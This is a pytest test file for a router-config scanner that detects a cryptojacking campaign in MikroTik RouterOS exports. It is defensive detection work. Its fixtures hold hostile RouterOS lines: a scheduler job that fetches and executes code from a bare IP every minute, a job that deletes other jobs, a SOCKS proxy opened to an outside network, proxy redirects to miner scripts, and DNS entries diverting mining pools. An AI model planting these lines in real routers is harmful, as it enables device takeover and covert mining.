"""MH-ROUTER checks on authored exports: the campaign's changes in 6.x and 7.x syntax, each
alone and together, and benign look-alikes that must stay below medium."""

from __future__ import annotations

from pathlib import Path

import pytest

from minehunt.intel import Intel
from minehunt.model import Finding, Severity
from minehunt.report import Collector
from minehunt.router.parse import build_config, parse_export
from minehunt.router.scan import scan_exports
from minehunt.router.sinkhole import sinkhole_script
from tests.router.conftest import DATA

CLEAN = (DATA / "benign-7x-verbose.rsc").read_text()


def _scan(tmp_path: Path, intel: Intel, text: str, expected: tuple[str, ...] = ()) -> list[Finding]:
    p = tmp_path / "export.rsc"
    p.write_text(text)
    return list(scan_exports([str(p)], intel, Collector("scan router"), expected))


def _strong(found: list[Finding]) -> list[Finding]:
    return [f for f in found if f.severity >= Severity.MEDIUM]


@pytest.mark.parametrize("name", ["benign-6x-isp.rsc", "benign-7x-verbose.rsc"])
def test_benign_lookalikes_stay_below_medium(intel: Intel, name: str) -> None:
    col = Collector("scan router")
    found = list(scan_exports([str(DATA / name)], intel, col))
    assert _strong(found) == [], [f.summary for f in _strong(found)]
    assert col.skipped == []


def test_isp_management_scheduler_is_low_with_its_line(intel: Intel) -> None:
    found = list(scan_exports([str(DATA / "benign-6x-isp.rsc")], intel, Collector("x")))
    jobs = [f for f in found if f.check_id == "MH-ROUTER-006"]
    assert [(f.severity, f.target.line) for f in jobs] == [(Severity.LOW, 89)]
    assert "isp-provision" in jobs[0].summary
    # The caching proxy and the LAN SOCKS server are reported, as low.
    assert {f.check_id: f.severity for f in found if f.check_id != "MH-ROUTER-006"} == {
        "MH-ROUTER-002": Severity.LOW,
        "MH-ROUTER-004": Severity.LOW,
    }


CAMPAIGN_6X = {
    ("MH-ROUTER-002", 23, Severity.HIGH),
    ("MH-ROUTER-003", 27, Severity.HIGH),
    ("MH-ROUTER-004", 32, Severity.MEDIUM),
    ("MH-ROUTER-005", 34, Severity.HIGH),
    ("MH-ROUTER-006", 37, Severity.HIGH),
    ("MH-ROUTER-006", 40, Severity.HIGH),
    ("MH-ROUTER-007", 20, Severity.HIGH),
    ("MH-ROUTER-010", 1, Severity.HIGH),
    ("MH-ROUTER-012", 29, Severity.LOW),
    ("MH-ROUTER-012", 30, Severity.LOW),
    ("MH-ROUTER-011", 29, Severity.MEDIUM),
    ("MH-ROUTER-013", 18, Severity.MEDIUM),
    ("MH-ROUTER-014", None, Severity.MEDIUM),
}
CAMPAIGN_7X = {
    ("MH-ROUTER-001", 35, Severity.HIGH),
    ("MH-ROUTER-002", 25, Severity.HIGH),
    ("MH-ROUTER-003", 32, Severity.HIGH),
    ("MH-ROUTER-004", 44, Severity.MEDIUM),
    ("MH-ROUTER-005", 47, Severity.HIGH),
    ("MH-ROUTER-006", 50, Severity.HIGH),
    ("MH-ROUTER-007", 17, Severity.HIGH),
    ("MH-ROUTER-007", 18, Severity.HIGH),
    ("MH-ROUTER-009", 59, Severity.LOW),
    ("MH-ROUTER-011", 37, Severity.MEDIUM),
    ("MH-ROUTER-013", 15, Severity.MEDIUM),
    ("MH-ROUTER-014", None, Severity.MEDIUM),
}


@pytest.mark.parametrize(
    ("name", "expected"),
    [("campaign-6x-compact.rsc", CAMPAIGN_6X), ("campaign-7x-verbose.rsc", CAMPAIGN_7X)],
)
def test_campaign_exports_every_change_with_its_line(
    intel: Intel, name: str, expected: set[tuple[str, int | None, Severity]]
) -> None:
    col = Collector("scan router")
    found = list(scan_exports([str(DATA / name)], intel, col))
    got = {(f.check_id, f.target.line, f.severity) for f in found}
    assert got == expected
    for f in found:
        assert f.target.path == str(DATA / name) and f.evidence[0].source == str(DATA / name)
    assert col.skipped == []


# Each artefact alone, appended to a clean RouterOS 7 export (which has a firewall).
ARTEFACTS = {
    "walled-garden miner host": (
        '/ip hotspot walled-garden\nadd dst-host="*.crypto-loot.com" server=hs1\n',
        "MH-ROUTER-001",
        Severity.HIGH,
    ),
    "proxy redirect to a miner script": (
        "/ip proxy access\n"
        'add action=deny dst-host=ads.example redirect-to="h.example/lib/coinhive.min.js"\n',
        "MH-ROUTER-001",
        Severity.HIGH,
    ),
    "NAT to the proxy alone": (
        "/ip proxy\nset enabled=yes port=3128\n/ip firewall nat\n"
        "add action=redirect chain=dstnat dst-port=80 protocol=tcp to-ports=3128\n",
        "MH-ROUTER-002",
        Severity.LOW,
    ),
    "deny-all proxy access alone": (
        "/ip proxy access\nadd action=deny\n",
        "MH-ROUTER-003",
        Severity.MEDIUM,
    ),
    "SOCKS on an odd port": (
        "/ip socks\nset enabled=yes port=4153\n",
        "MH-ROUTER-004",
        Severity.MEDIUM,
    ),
    "SOCKS for one outside network": (
        "/ip socks access\nadd src-address=185.234.217.0/24\nadd action=deny\n",
        "MH-ROUTER-005",
        Severity.MEDIUM,
    ),
    "fetch+parse from a bare IP every minute": (
        '/system scheduler\nadd interval=1m name=check on-event=":do {[:parse ([/tool fetc\\\n'
        '    h url=\\"http://185.234.217.9/p\\" output=user as-value]->\\"data\\")]} on-error\\\n'
        '    ={}" start-time=startup\n',
        "MH-ROUTER-006",
        Severity.MEDIUM,
    ),
    "job that wipes other jobs": (
        '/system scheduler\nadd interval=30s name=keep on-event=":foreach j in=[/system sch\\\n'
        '    eduler find where name!=keep] do={/system scheduler remove $j}"\n',
        "MH-ROUTER-006",
        Severity.HIGH,
    ),
    "pool in a static DNS regexp (6.x)": (
        '/ip dns static\nadd address=185.234.217.10 regexp="^.*\\\\.nanopool\\\\.org\\$"\n',
        "MH-ROUTER-007",
        Severity.HIGH,
    ),
}


@pytest.mark.parametrize("case", sorted(ARTEFACTS))
def test_each_artefact_alone(tmp_path: Path, intel: Intel, case: str) -> None:
    snippet, check_id, severity = ARTEFACTS[case]
    first = CLEAN.count("\n") + 1
    found = _scan(tmp_path, intel, CLEAN + snippet)
    hits = [f for f in found if f.check_id == check_id]
    assert hits and max(f.severity for f in hits) == severity, [f.summary for f in found]
    assert all(f.target.line is not None and f.target.line > first for f in hits)
    # Nothing else at medium or above, apart from what this artefact is.
    others = [f for f in _strong(found) if f.check_id != check_id]
    if check_id != "MH-ROUTER-005":
        assert others == [], [f.summary for f in others]


def test_all_artefacts_together(tmp_path: Path, intel: Intel) -> None:
    found = _scan(tmp_path, intel, CLEAN + "".join(s for s, _, _ in ARTEFACTS.values()))
    ids = {f.check_id for f in _strong(found)}
    assert {"MH-ROUTER-001", "MH-ROUTER-002", "MH-ROUTER-003", "MH-ROUTER-004"} <= ids
    assert {"MH-ROUTER-005", "MH-ROUTER-006", "MH-ROUTER-007"} <= ids
    nat = [f for f in found if f.check_id == "MH-ROUTER-002"]
    assert nat[0].severity is Severity.HIGH  # with the deny-all rule it is the injection path


def test_weak_points_alone(tmp_path: Path, intel: Intel) -> None:
    old = CLEAN.replace("by RouterOS 7.14.3", "by RouterOS 6.40.9")
    found = _scan(tmp_path, intel, old)
    vers = [f for f in found if f.check_id == "MH-ROUTER-010"]
    assert vers and vers[0].severity is Severity.MEDIUM  # 6.40.9 bugfix: not CVE-2018-14847
    assert "CVE-2018-14847" not in vers[0].summary and "CVE-2019-3977" in vers[0].summary
    no_fw = CLEAN.replace("in-interface-list=!LAN", "in-interface-list=!LAN src-address=10.9.9.9")
    found = _scan(tmp_path, intel, no_fw)
    assert {f.check_id for f in _strong(found)} == {
        "MH-ROUTER-011",
        "MH-ROUTER-013",
        "MH-ROUTER-014",
    }
    exposed = next(f for f in found if f.check_id == "MH-ROUTER-011")
    # telnet, ftp, api are disabled; www is limited to the LAN with address=
    assert exposed.evidence[0].attributes["services"] == "ssh/22, winbox/8291"
    moved = CLEAN.replace(
        'set ssh address="" disabled=no port=22', 'set ssh address="" disabled=no port=2200'
    )
    low = [f for f in _scan(tmp_path, intel, moved) if f.check_id == "MH-ROUTER-012"]
    assert [(f.severity, f.evidence[0].attributes["port"]) for f in low] == [(Severity.LOW, 2200)]


def test_expected_users(tmp_path: Path, intel: Intel) -> None:
    found = _scan(tmp_path, intel, CLEAN, expected=("admin",))
    users = [f for f in found if f.check_id == "MH-ROUTER-009"]
    assert [(f.evidence[0].attributes["user"], f.severity) for f in users] == [
        ("alice", Severity.MEDIUM)
    ]
    found = _scan(tmp_path, intel, CLEAN, expected=("admin", "alice"))
    assert not [f for f in found if f.check_id == "MH-ROUTER-009"]


@pytest.mark.parametrize("routeros", [6, 7])
def test_sinkhole_script_parses_and_is_not_a_finding(
    tmp_path: Path, intel: Intel, routeros: int
) -> None:
    text = sinkhole_script(intel, routeros=routeros)
    config = build_config("sink.rsc", parse_export(text.splitlines()), lambda m: True)
    adds = [e for e in config.menu("/ip dns static") if e.action.value == "add"]
    assert len(adds) == len(intel.pool_domains) and config.skipped == ()
    assert adds[0].props["comment"] == "minehunt-sinkhole"
    # The script sinks every name, so none of its entries is reported ...
    assert not [f for f in _scan(tmp_path, intel, CLEAN + text) if f.check_id == "MH-ROUTER-007"]
    # ... and the same entries pointing at a real address are.
    bad = text.replace("address=0.0.0.0", "address=185.234.217.10")
    hits = [f for f in _scan(tmp_path, intel, CLEAN + bad) if f.check_id == "MH-ROUTER-007"]
    assert len(hits) == len(intel.pool_domains)


def test_unknown_wan_is_said_not_guessed(tmp_path: Path, intel: Intel) -> None:
    text = "/ip firewall filter\nadd action=accept chain=input\n/ip dns\nset allow-remote-requests=yes\n"
    p = tmp_path / "partial.rsc"
    p.write_text(text)
    col = Collector("scan router")
    found = list(scan_exports([str(p)], intel, col))
    assert not [
        f for f in found if f.check_id in ("MH-ROUTER-011", "MH-ROUTER-013", "MH-ROUTER-014")
    ]
    assert [s.reason for s in col.skipped] == [
        "WAN interface unknown (no WAN interface list, DHCP or PPPoE client): exposure to "
        "the WAN not checked"
    ]
